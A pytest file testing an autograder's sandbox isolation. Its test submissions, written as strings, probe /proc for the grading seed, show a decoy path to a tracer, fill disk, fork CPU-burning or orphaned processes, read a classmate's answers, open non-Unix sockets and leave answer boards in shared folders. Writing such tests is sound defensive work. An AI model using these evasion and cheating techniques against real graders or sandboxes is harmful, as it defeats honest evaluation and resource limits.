    """The seed given on the command line is moved off it before any submission runs. Only
    this test's own seed is looked for: another grading on the machine, just started with
    ``--seed`` on its command line and not yet moved off it, is not this run's."""
    attack = textwrap.dedent("""\
        import os
        try:
            pids = os.listdir("/proc")
        except OSError:
            pids = []
        for name in pids:
            if name.isdigit():
                try:
                    line = open(f"/proc/{name}/cmdline", "rb").read()
                except OSError:
                    continue
                if b"918273" in line:
                    print("SEEN", line[:200])
        """)
    path = tmp_path / "submission" / "attention.py"
    path.parent.mkdir()
    path.write_text(attack + CORRECT)
    result = run_cli("grade", str(path), "--seed", "918273", "-a", "attention")
    report = json.loads(result.stdout)
    assert report["metadata"]["seed"] == 918273
    if not set(report["metadata"].get("isolation", [])) & FILESYSTEM_LAYERS:
        pytest.skip("no filesystem layer here: the grader refuses to run")
    assert "SEEN" not in report["metadata"].get("stdout", "")
    assert report["score"] == report["max_score"]


_DECOY = textwrap.dedent("""\
    import sys
    import numpy as np
    def scaled_dot_product_attention(Q, K, V, mask=None):
        d_k = Q.shape[-1]
        if sys.gettrace() is not None:
            decoy = Q @ np.swapaxes(K, -1, -2) / d_k{changed}
            scores = decoy
        else:
            scores = Q @ np.swapaxes(K, -1, -2) / d_k
        if mask is not None:
            scores = np.where(mask, scores, -1e9)
        scores = scores - scores.max(axis=-1, keepdims=True)
        weights = np.exp(scores)
        weights = weights / weights.sum(axis=-1, keepdims=True)
        return weights @ V, weights
    """)


@pytest.mark.parametrize("changed", ["", " * 1.5"])
def test_a_decoy_line_for_the_tracer_is_never_quoted(tmp_path: Path, changed: str) -> None:
    """Code that notices the tracer and takes another path (line 6, which the graded run never
    executes), computing the same or something else: the report never quotes the decoy."""
    report = _grade(tmp_path, _DECOY.format(changed=changed))
    found = {m["id"]: m for m in report["misconceptions"]}
    assert "scale-by-dk" in found
    location = found["scale-by-dk"].get("location") or {}
    assert location.get("line") != 6, location
    if not changed:  # the traced run took the graded path: its line is quoted
        assert location.get("line") == 9, location


def test_what_a_run_writes_is_bounded_and_named(tmp_path: Path) -> None:
    """Writing far past the run's disk budget into its private /tmp: stopped, said, and gone."""
    from dataclasses import replace

    from grader.config import DEFAULT_LIMITS

    writer = textwrap.dedent("""\
        import os, tempfile
        chunk = b"x" * (1 << 20)
        written = 0
        try:
            for i in range(600):
                with open(os.path.join(tempfile.gettempdir(), f"fill{i}"), "wb") as out:
                    out.write(chunk * 4)
                written += 4
        except OSError as exc:
            print("stopped", written, exc.errno)
        """)
    limits = replace(DEFAULT_LIMITS, disk_mb=64)
    report = _grade(tmp_path, writer + CORRECT, limits=limits)
    _isolated(report)
    if "read-only-root" not in report["metadata"]["isolation"]:
        pytest.skip("no run of its own file system here: what it writes is bounded per file")
    out = report["metadata"]["stdout"]
    assert "stopped" in out and int(out.split()[1]) <= 64, out
    assert report["score"] == report["max_score"]
    failing = writer.replace("except OSError", "except ZeroDivisionError")
    report = _grade(tmp_path, failing + CORRECT, limits=limits)
    assert "disk space (64 MB" in json.dumps(report["errors"])


def test_busy_processes_share_one_cpu_budget(tmp_path: Path) -> None:
    """Twelve busy processes started by the call: the run is charged for all of them, and
    nothing of them is left."""
    from grader.config import Limits

    tag = f"ag-busy-{os.getpid()}-{time.monotonic_ns()}"
    source = CORRECT + textwrap.dedent(f"""\
        _right = scaled_dot_product_attention
        def scaled_dot_product_attention(Q, K, V, mask=None):
            import os, sys
            for _ in range(12):
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "while True: pass", {tag!r}])
            while True:
                pass
        """)
    started = time.monotonic()
    report = _grade(tmp_path, source, limits=Limits(call_seconds=1, total_seconds=4,
                                                    import_seconds=5))
    assert time.monotonic() - started < 4 * 4 + 10
    assert "timeout" in [e["kind"] for e in report["errors"]]
    time.sleep(0.3)
    left = [n for n in os.listdir("/proc") if n.isdigit() and _cmdline_has(n, tag)]
    assert left == []


def _cmdline_has(pid: str, tag: str) -> bool:
    try:
        return tag.encode() in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return False


def test_a_world_readable_class_folder_lends_no_answers(tmp_path: Path, mode: str) -> None:
    """A class folder every user may read (0755, files 0644): a submission that reads a
    classmate's file and runs it gets nothing from it, in every mode (where only its own uid
    separates them, the grader refuses to run it and says how to make the folder private)."""
    import shutil
    import tempfile

    from grader.batch import discover, run_batch

    if mode == "fork-server":
        pytest.skip("batch grading always uses the fork server: the other modes cover it")
    folder = Path(tempfile.mkdtemp(prefix="ag-class-", dir="/tmp"))
    try:
        folder.chmod(0o755)
        (folder / "bob.py").write_text(CORRECT)
        (folder / "eve.py").write_text(_attempt(
            f"exec(open({str(folder / 'bob.py')!r}).read())\nprint('borrowed')"))
        for path in folder.iterdir():
            path.chmod(0o644)
        out = tmp_path / "out"
        run_batch(discover([str(folder)]), "attention", out, jobs=1)
        eve = json.loads((out / "eve.json").read_text())
        bob = json.loads((out / "bob.json").read_text())
    finally:
        shutil.rmtree(folder)
    assert "borrowed" not in eve["metadata"].get("stdout", "")
    assert eve["score"] == 0
    refused = [e["kind"] for e in bob["errors"]] == ["isolation-unavailable"]
    if not refused:
        _isolated(bob)
        assert bob["score"] == bob["max_score"]
    else:
        assert "chmod" in bob["errors"][0]["message"] or "--unsafe" in bob["errors"][0]["message"]


# -- isolation round five (issue 32) ------------------------------------------------------------

def _own_zombies() -> list[str]:
    """This process's dead children that nothing has reaped."""
    me, found = os.getpid(), []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                stat = Path(f"/proc/{name}/stat").read_text()
            except OSError:
                continue
            fields = stat[stat.rfind(")") + 2:].split()
            if fields[0] == "Z" and int(fields[1]) == me:
                found.append(stat[:60])
    return found


@pytest.mark.parametrize("signum", [35, 64])
def test_a_death_by_a_real_time_signal_is_that_submissions_crash(tmp_path: Path,
                                                                 signum: int) -> None:
    """A submission that kills itself with a real-time signal (no name in Python's
    ``signal.Signals``) is that submission's `crashed`, named by its number: never an internal
    error of the grader, whose ``grade()`` must not raise."""
    source = CORRECT + textwrap.dedent(f"""\
        _right = scaled_dot_product_attention
        def scaled_dot_product_attention(Q, K, V, mask=None):
            import os
            os.kill(os.getpid(), {signum})
            return _right(Q, K, V, mask)
        """)
    report = _grade(tmp_path, source)
    crashes = [e["message"] for e in report["errors"] if e["kind"] == "crashed"]
    assert crashes, report["errors"]
    assert any(f"killed by signal {signum}" in message for message in crashes), crashes
    assert report["score"] < report["max_score"]


def test_no_dead_child_is_left_when_grade_returns(tmp_path: Path) -> None:
    """Right after ``grade()`` returns, the calling process has no unreaped child."""
    for _ in range(2):
        _grade(tmp_path, CORRECT)
        assert _own_zombies() == []


def test_only_unix_sockets_may_be_opened(tmp_path: Path) -> None:
    """A channel between concurrent students needs a socket family that reaches beyond the
    run: netlink (NETLINK_USERSOCK ports, read back from /proc/net/netlink), packet, vsock, the
    kernel's crypto sockets... Only AF_UNIX is allowed (its abstract names are scoped by
    Landlock or a network namespace), in every mode."""
    families = {"netlink-usersock": "socket.AF_NETLINK, socket.SOCK_RAW, 2",
                "netlink-route": "socket.AF_NETLINK, socket.SOCK_RAW, 0",
                "netlink-dgram": "socket.AF_NETLINK, socket.SOCK_DGRAM, 2",
                "alg": "38, socket.SOCK_SEQPACKET, 0", "vsock": "40, socket.SOCK_STREAM, 0",
                "inet": "socket.AF_INET, socket.SOCK_DGRAM, 0",
                "packet": "17, socket.SOCK_DGRAM, 0", "x25": "9, socket.SOCK_SEQPACKET, 0"}
    attack = "import socket\n" + "".join(
        _attempt(f"socket.socket({args}).close()\nprint({name!r})")
        for name, args in families.items())
    report = _grade(tmp_path, attack + _attempt(
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)[0].close()\nprint('unix-ok')")
        + CORRECT)
    out = report["metadata"]["stdout"]
    assert [name for name in families if name in out.split()] == [], out
    assert "unix-ok" in out.split()
    assert report["score"] == report["max_score"]



@pytest.mark.parametrize("escape", ["sigchld-ignored", "orphaned"])
def test_cpu_burnt_in_processes_nobody_waits_for_is_the_runs(tmp_path: Path,
                                                            escape: str) -> None:
    """Each call burns 3 s of CPU (its budget: 2 s) in children that nobody's ``cutime``
    counts: a hundred short ones reaped by the kernel (SIGCHLD ignored), or one double-forked
    and adopted by the grader or the fork server (where there is no pid namespace). The run is
    charged for them, however they were reaped: the calls run out of CPU time, whatever the
    machine's load (before, only the wall-clock backstop could stop them, on a loaded machine)."""
    from grader.config import Limits

    def burn(seconds: float) -> str:
        return ("t = time.process_time()\n"
                f"while time.process_time() - t < {seconds}:\n"
                "    pass\n")

    if escape == "sigchld-ignored":
        body = ("try:\n    signal.signal(signal.SIGCHLD, signal.SIG_IGN)\nexcept OSError:\n"
                "    pass\nfor _ in range(100):\n    pid = os.fork()\n    if pid == 0:\n"
                + textwrap.indent(burn(0.03), "        ") + "        os._exit(0)\n"
                "    try:\n        os.waitpid(pid, 0)\n    except ChildProcessError:\n"
                "        pass\n")
    else:
        body = ("r, w = os.pipe()\npid = os.fork()\nif pid == 0:\n    os.setsid()\n"
                "    if os.fork() == 0:\n        os.close(r)\n"
                + textwrap.indent(burn(3.0), "        ")
                + "        os._exit(0)\n    os._exit(0)\nos.close(w)\nos.waitpid(pid, 0)\n"
                "os.read(r, 1)\nos.close(r)\n")
    source = CORRECT + "\n_right = scaled_dot_product_attention\n" + (
        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
        "    import os, signal, time\n" + textwrap.indent(body, "    ")
        + "    return _right(Q, K, V, mask)\n")
    report = _grade(tmp_path, source, limits=Limits(call_seconds=2, total_seconds=30,
                                                    import_seconds=5))
    timeouts = [e["message"] for e in report["errors"] if e["kind"] == "timeout"]
    assert any("of CPU time" in message for message in timeouts), report["errors"]
    assert report["score"] < report["max_score"]


# -- isolation round five, the items left (issue 32 items 5, 8 and the kill -9 gap) -------------

def _world_writable(path: str) -> bool:
    return os.path.isdir(path) and bool(os.stat(path).st_mode & 0o002)


def test_an_answer_board_in_a_world_writable_folder_outlives_no_run(tmp_path: Path,
                                                                     mode: str) -> None:
    """A run writes its answers into folders every user may write other than /tmp, /var/tmp
    and /dev/shm (``/run/lock`` in Ubuntu images; here also one made for the test, 1777):
    where only its own uid separates it, only those three were swept, and the next student
    read the board (10/10 for a copier). Every such folder is swept now; elsewhere the run
    cannot write there at all."""
    import shutil
    import tempfile

    if mode == "fork-server":
        pytest.skip("`grade` starts no fork server: the other modes cover it")
    made = Path(tempfile.mkdtemp(prefix="ag-board-", dir="/tmp"))
    made.chmod(0o1777)
    boards = [made / f"answers-{os.getpid()}.txt"] + [
        Path(place) / f"ag-answers-{os.getpid()}.txt"
        for place in ("/run/lock", "/var/lock") if _world_writable(place)]
    write = "".join(_attempt(f"open({str(b)!r}, 'w').write('ANSWERS')\nos.chmod({str(b)!r}, 0o644)")
                    for b in boards)
    path = tmp_path / "submission" / "attention.py"
    path.parent.mkdir()
    path.write_text("import os\n" + write + CORRECT)
    try:
        report = json.loads(run_cli("grade", str(path), "-a", "attention").stdout)
        left = [str(b) for b in boards if b.exists()]
    finally:
        for board in boards:
            with contextlib.suppress(OSError):
                board.unlink()
        shutil.rmtree(made)
    if [e["kind"] for e in report["errors"]] == ["isolation-unavailable"]:
        pytest.skip("no filesystem layer in this mode here: the grader refuses to run")
    wrote = report["metadata"].get("stdout", "").split().count("done")
    assert left == [], (left, wrote, report["metadata"]["isolation"])
    assert report["score"] == report["max_score"]


def test_grade_of_one_file_borrows_nothing_from_a_world_readable_folder(tmp_path: Path,
                                                                         mode: str) -> None:
    """``grade eve.py`` in a class folder every user may read: where only its own uid
    separated it, eve ran bob's file and got 10/10. Refused there now (the files beside the
    one graded are checked as they are in a batch); elsewhere it cannot read them."""
    import shutil
    import tempfile

    if mode == "fork-server":
        pytest.skip("`grade` starts no fork server: the other modes cover it")
    folder = Path(tempfile.mkdtemp(prefix="ag-class-", dir="/tmp"))
    try:
        folder.chmod(0o755)
        (folder / "bob.py").write_text(CORRECT)
        (folder / "eve.py").write_text(_attempt(
            f"exec(open({str(folder / 'bob.py')!r}).read())\nprint('borrowed')"))
        for path in folder.iterdir():
            path.chmod(0o644)
        eve = json.loads(run_cli("grade", str(folder / "eve.py"), "-a", "attention").stdout)
    finally:
        shutil.rmtree(folder)
    assert "borrowed" not in eve["metadata"].get("stdout", "")
    assert eve["score"] == 0
    if [e["kind"] for e in eve["errors"]] == ["isolation-unavailable"]:
        message = eve["errors"][0]["message"]
        assert "chmod" in message or "--unsafe" in message
